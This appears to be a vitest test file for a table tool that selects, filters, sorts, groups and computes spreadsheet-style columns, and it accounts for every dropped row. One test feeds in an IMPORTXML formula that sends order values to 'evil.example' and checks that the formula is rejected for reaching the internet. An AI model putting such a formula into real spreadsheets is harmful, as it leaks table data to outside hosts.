// A table that exists is chosen from, computed over and summed up, and every row that is gone is accounted for.
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import type { Evidence } from '../../shared/table/evidence.ts'
import type { Cell, Column } from '../../shared/table/table.ts'
import { columns, orders, sourceOf, type Used, use } from './testing/use-orders.ts'
import { createUseTable } from './use-table.ts'

const taken = (from: string, name = from) => ({ from, name, formula: null })
const computed = (name: string, formula: string) => ({ from: null, name, formula })
const ids = ({ rows }: Used) => rows.map(([id]) => id)

describe('columns', () => {
  it('are taken, renamed, ordered and computed; the formula stays over the new keys', async () => {
    const used = await use({
      columns: [
        taken('order', 'No.'),
        taken('Unit price', 'Price'),
        taken('Qty'),
        computed('Total', '=[Price] * Qty'),
        computed('With tax', 'ROUND([Total] * 1.19, 2)'),
      ],
    })
    expect(used.columns).toEqual([
      { key: 'no', name: 'No.', type: 'text' },
      { key: 'price', name: 'Price', type: 'currency', currency: 'EUR' },
      { key: 'qty', name: 'Qty', type: 'number' },
      { key: 'total', name: 'Total', type: 'currency', currency: 'EUR', formula: 'price*qty' },
      { key: 'with_tax', name: 'With tax', type: 'currency', currency: 'EUR', formula: 'ROUND(total*1.19,2)' },
    ])
    expect(used.rows).toEqual([
      ['A1', 10.5, 3, 31.5, 37.49],
      ['A2', 99, 1, 99, 117.81],
      ['A10', 20, null, 0, 0],
      ['A3', 1.25, 12, 15, 17.85],
      ['A4', 'on request', 2, null, null],
    ])
    expect(used.evidence[0]).toEqual([null, null, null, 'computed', 'computed'])
    expect(used.evidence[4]).toEqual([null, null, null, null, null])
    expect(used.receipt).toMatchObject({ rows_seen: 5, rows_extracted: 5, cells_computed: 8, cells_quoted: 14 })
    expect(used.receipt.notes).toEqual([
      '“Total” stays empty in 1 row: “on request” is not a number.',
      '“With tax” stays empty in 1 row: “on request” is not a number.',
    ])
  })

  it('without anything computed carry no evidence, and a table as it is keeps its keys', async () => {
    const used = await use({})
    expect(used.columns).toEqual(columns)
    expect(used.rows).toEqual(orders)
    expect(used.events.filter((event) => event.type === 'rows' && event.evidence)).toEqual([])
    expect(used.events[0]).toMatchObject({
      source: { origin: 'message', where: 'your message', format: 'csv' },
      rows_expected: 5,
    })
  })

  it('of an earlier table keep the evidence and the formulas they have', async () => {
    const span = { source: 'message:1', start: 4, end: 6 }
    const of: Column[] = [columns[0]!, columns[2]!, { key: 'double', name: 'Double', type: 'number', formula: 'qty*2' }]
    const cells = () =>
      (async function* () {
        yield { rows: [['A1', 3, 6]], evidence: [[span, 'unsupported', 'computed']] as Evidence[][] }
        yield { rows: [['A2', 4, 8]] }
      })()
    const rows = [
      ['A1', 3, 6],
      ['A2', 4, 8],
    ]
    const used = await use(
      { columns: [taken('Double'), taken('Qty', 'Pieces'), taken('Order')] },
      sourceOf(rows, of, { cells }),
    )
    expect(used.columns[0]).toMatchObject({ key: 'double', formula: 'pieces*2' })
    expect(used.evidence).toEqual([['computed', 'unsupported', span], null])
    expect(used.receipt).toMatchObject({ cells_quoted: 4, cells_computed: 1, cells_unsupported: 1 })
    const alone = await use({ columns: [taken('Double')] }, sourceOf(rows, of, { cells }))
    expect(alone.columns).toEqual([{ key: 'double', name: 'Double', type: 'number' }])
    expect(alone.receipt.notes.join()).toContain('“Double” holds values and no formula')
  })

  it('that cannot be had are named, and the rest comes', async () => {
    const used = await use({
      columns: [
        taken('Order'),
        taken('Customer'),
        computed('Spy', 'IMPORTXML("https://evil.example/" & [Order], "//a")'),
        computed('Cost', '[Cost price] * Qty'),
        computed('Later', '[Cost] + 1'),
        computed('Self', '[Self] + 1'),
        { from: null, name: 'Nothing', formula: null },
      ],
    })
    expect(used.columns.map(({ name }) => name)).toEqual(['Order'])
    expect(used.receipt.notes).toEqual([
      expect.stringContaining('no column “Customer”'),
      expect.stringMatching(/“Spy” was left out: .*internet/),
      '“Cost” was left out: There is no column “Cost price”.',
      '“Later” was left out: There is no column “Cost”.',
      '“Self” was left out: It stands on itself.',
      '“Nothing” was left out: It has neither a source nor a formula.',
    ])
  })

  it('all of which cannot be had make no table', async () => {
    expect(await use({ columns: [taken('Customer')] })).toMatchObject({
      events: [],
      wrong: expect.stringContaining('columns'),
    })
    expect((await use({ columns: [computed('X', 'IMPORTDATA(1)')] })).wrong).toContain('“X”')
  })

  it('are computed with days, and shown as days', async () => {
    const used = await use({
      columns: [computed('Last day', '[Due] + 14'), computed('Late', 'Due < DATE(2026, 2, 1)')],
    })
    expect(used.columns.map(({ type }) => type)).toEqual(['date', 'boolean'])
    expect(used.rows.slice(0, 2)).toEqual([
      ['2026-03-26', false],
      ['2026-02-14', true],
    ])
    // The column it stands on is not in the table: its values are.
    expect(used.columns[0]).not.toHaveProperty('formula')
  })
})

describe('conditions', () => {
  const only = async (conditions: object[], more: object = {}, locale?: string) =>
    await use(
      { where: conditions.map((each) => ({ value: null, values: null, ...each })), ...more },
      sourceOf(orders),
      locale,
    )

  it.each([
    [{ column: 'Region', is: 'equals', value: ' north' }, ['A1', 'A10', 'A3']],
    [{ column: 'Region', is: 'not_equals', value: 'North' }, ['A2', 'A4']],
    [{ column: 'region', is: 'contains', value: 'OUT' }, ['A2']],
    [{ column: 'Region', is: 'not_contains', value: 'o' }, ['A4']],
    [{ column: 'Region', is: 'empty' }, ['A4']],
    [{ column: 'Due', is: 'not_empty' }, ['A1', 'A2', 'A3', 'A4']],
    [{ column: 'Qty', is: 'greater', value: '2' }, ['A1', 'A3']],
    [{ column: 'Qty', is: 'at_most', value: '2' }, ['A2', 'A4']],
    [{ column: 'Unit price', is: 'at_least', value: '€10.50' }, ['A1', 'A2', 'A10']],
    [{ column: 'Unit price', is: 'equals', value: 'On request' }, ['A4']],
    [{ column: 'Share', is: 'greater', value: '10%' }, ['A1', 'A3']],
    [{ column: 'Share', is: 'at_most', value: '10' }, ['A2', 'A4']],
    [{ column: 'Due', is: 'at_least', value: '12 March 2026' }, ['A1', 'A3']],
    [{ column: 'Due', is: 'less', value: '2026-03-12' }, ['A2']],
    [{ column: 'Due', is: 'equals', value: 'March 2026' }, ['A1']],
    [{ column: 'Due', is: 'equals', value: '2026' }, ['A1', 'A2', 'A3']],
    [{ column: 'Due', is: 'greater', value: '2025' }, ['A1', 'A2', 'A3']],
    [{ column: 'Paid', is: 'equals', value: 'yes' }, ['A1', 'A3']],
    [{ column: 'Order', is: 'greater', value: 'A3' }, ['A10', 'A4']],
    [{ column: 'Order', is: 'one_of', values: ['a1', 'A4', 'x'] }, ['A1', 'A4']],
    [{ column: 'Qty', is: 'one_of', values: ['1', '12.0'] }, ['A2', 'A3']],
  ])('%j', async (condition, expected) => {
    const used = await only([condition])
    expect(ids(used)).toEqual(expected)
    expect(used.receipt).toMatchObject({ state: 'complete', rows_seen: 5, rows_extracted: expected.length })
    expect(used.receipt.notes[0]).toMatch(new RegExp(`^Only rows where .*: ${5 - expected.length} of 5 `))
  })

  it('are read as the locale writes them', async () => {
    expect(ids(await only([{ column: 'Unit price', is: 'less', value: '10,5' }], {}, 'de_DE'))).toEqual(['A3'])
    expect(ids(await only([{ column: 'Due', is: 'less', value: '1.2.2026' }], {}, 'de_DE'))).toEqual(['A2'])
  })

  it('may be about a column that is computed, and say how many each left out', async () => {
    const used = await only(
      [
        { column: 'Region', is: 'equals', value: 'north' },
        { column: 'Total', is: 'at_least', value: '20' },
      ],
      { columns: [taken('Order'), computed('Total', '[Qty] * [Unit price]')] },
    )
    expect(ids(used)).toEqual(['A1'])
    expect(used.receipt.notes).toContain(
      'Only rows where “Region” is “north” (2 left out) and “Total” is at least “20” (2 left out): 4 of 5 were left out.',
    )
  })

  it('one of which is enough', async () => {
    const used = await only(
      [
        { column: 'Order', is: 'equals', value: 'A1' },
        { column: 'Region', is: 'empty' },
      ],
      { match: 'any' },
    )
    expect(ids(used)).toEqual(['A1', 'A4'])
  })

  it('that cannot be understood leave the rows in and are named', async () => {
    const used = await only([
      { column: 'Customer', is: 'equals', value: 'x' },
      { column: 'Qty', is: 'greater', value: 'many' },
      { column: 'Unit price', is: 'less', value: '$5' },
      { column: 'Qty', is: 'resembles', value: '1' },
      { column: 'Qty', is: 'one_of' },
    ])
    expect(used.rows).toHaveLength(5)
    expect(used.receipt.notes).toEqual([
      'The condition “Customer” is “x” was left out: the table has no such column.',
      'The condition “Qty” is more than “many” was left out: “many” is no number.',
      'The condition “Unit price” is less than “$5” was left out: the amounts are in EUR, and “$5” is not.',
      expect.stringContaining('its comparison is not known'),
      expect.stringContaining('it names no values'),
    ])
  })

  it('that nothing fits leave a table without rows, and say so', async () => {
    const used = await only([{ column: 'Order', is: 'equals', value: 'Z' }])
    expect(used).toMatchObject({ rows: [], wrong: null, receipt: { rows_seen: 5, rows_extracted: 0 } })
  })
})

describe('rows', () => {
  it('are sorted by type, the same ones as they were, empty ones last', async () => {
    expect(ids(await use({ sort: [{ column: 'Order', order: 'ascending' }] }))).toEqual(['A1', 'A2', 'A3', 'A4', 'A10'])
    expect(ids(await use({ sort: [{ column: 'Due', order: 'ascending' }] }))).toEqual(['A2', 'A1', 'A3', 'A4', 'A10'])
    expect(ids(await use({ sort: [{ column: 'Qty', order: 'descending' }] }))).toEqual(['A3', 'A1', 'A4', 'A2', 'A10'])
    const two = [
      { column: 'Region', order: 'ascending' },
      { column: 'Qty', order: 'descending' },
    ]
    expect(ids(await use({ sort: two, columns: [taken('Order')] }))).toEqual(['A3', 'A1', 'A10', 'A2', 'A4'])
  })

  it('are distinct and limited, and what is gone is counted', async () => {
    const used = await use({ distinct: ['Region'], limit: 2, sort: [{ column: 'Order', order: 'descending' }] })
    expect(ids(used)).toEqual(['A4', 'A2'])
    expect(used.receipt.notes).toEqual([
      '2 rows were left out because they repeat another row in “Region”.',
      'Only the first 2 rows were taken; 1 more was left out.',
    ])
    expect((await use({ sort: [{ column: 'Age', order: 'ascending' }] })).receipt.notes).toEqual([
      'The rows could not be sorted by “Age”: there is no such column.',
    ])
  })

  const sums = {
    by: ['Region'],
    measures: [
      { name: 'Orders', function: 'count', column: null },
      { name: 'Pieces', function: 'sum', column: 'Qty' },
      { name: 'Last', function: 'max', column: 'Due' },
      { name: 'Mean', function: 'average', column: 'Unit price' },
    ],
  }
  it('are summed up by us', async () => {
    const used = await use({ group: sums, sort: [{ column: 'Orders', order: 'descending' }] })
    expect(used.columns.map(({ name, type }) => [name, type])).toEqual([
      ['Region', 'text'],
      ['Orders', 'number'],
      ['Pieces', 'number'],
      ['Last', 'date'],
      ['Mean', 'currency'],
    ])
    expect(used.rows).toEqual([
      ['North', 3, 15, '2026-12-01', 10.5833333333333],
      ['south ', 1, 1, '2026-01-31', 99],
      [null, 1, 2, 'soon', null],
    ])
    expect(used.evidence[0]).toEqual([null, 'computed', 'computed', 'computed', 'computed'])
    expect(used.receipt.notes).toEqual(['5 rows were summed up in 3.'])
  })

  it('that are summed up may be computed over and chosen from', async () => {
    const used = await use({
      group: sums,
      columns: [computed('Each', '[Pieces] / [Orders]')],
      where: [{ column: 'Orders', is: 'greater', value: '2', values: null }],
    })
    expect(used.columns.at(-1)).toMatchObject({ name: 'Each', formula: 'pieces/orders' })
    expect(used.rows).toEqual([['North', 3, 15, '2026-12-01', 10.5833333333333, 5]])
  })

  it('that sum up the others are not counted again', async () => {
    const rows = [...orders.slice(0, 2), ['Total', null, 4, 109.5, null, null, null]]
    const used = await use(
      { group: { by: [], measures: [{ name: 'Pieces', function: 'sum', column: 'Qty' }] } },
      sourceOf(rows),
    )
    expect(used.rows).toEqual([[4]])
    expect(used.receipt.notes[0]).toContain('“Total”, sums up the others')
  })

  it('are never lost: each is in the table or counted as left out', async () => {
    const conditions = fc.array(
      fc.record({
        column: fc.constantFrom('Order', 'Region', 'Qty', 'Due', 'Nope'),
        is: fc.constantFrom('equals', 'not_equals', 'greater', 'at_most', 'empty', 'contains'),
        value: fc.constantFrom('A1', 'North', '2', '2026-03-12', null),
        values: fc.constant(null),
      }),
      { maxLength: 3 },
    )
    const rows = fc.array(fc.constantFrom(...orders), { maxLength: 700 })
    const distinct = fc.constantFrom(null, ['Region'], ['Order', 'Qty'])
    const limit = fc.constantFrom(null, 1, 100)
    const match = fc.constantFrom('all', 'any')
    await fc.assert(
      fc.asyncProperty(rows, fc.record({ where: conditions, distinct, limit, match }), async (given, args) => {
        const used = await use(args, sourceOf(given))
        expect(used.wrong).toBeNull()
        const gone = used.receipt.notes
          .filter((note) => !note.startsWith('The condition'))
          .map((note) =>
            Number(
              (/: ([\d,]+) of|; ([\d,]+) more|^([\d,]+) rows? w/.exec(note) ?? [])
                .slice(1)
                .find(Boolean)
                ?.replace(',', ''),
            ),
          )
        expect(used.rows.length + gone.reduce((sum, each) => sum + each, 0)).toBe(given.length)
      }),
      { numRuns: 60 },
    )
  })

  it('of large tables stream through', async () => {
    const many = Array.from({ length: 50_000 }, (_, at): Cell[] => [`A${at}`, 'x', at % 50, at, null, null, null])
    const used = await use(
      {
        columns: [taken('Order'), computed('Total', 'Qty * [Unit price]')],
        where: [{ column: 'Qty', is: 'less', value: '25', values: null }],
      },
      sourceOf(many),
    )
    expect(used.rows).toHaveLength(25_000)
    expect(used.events.length).toBeGreaterThan(200)
  })
})

it('arguments that are no call, and tables that are not there', async () => {
  expect((await use({ source: 't9' })).wrong).toContain('does not exist')
  const running = createUseTable(0, [], new AbortController().signal)
  running.feed('[')
  expect((await running.end().next()).value).toContain('could not be read')
})
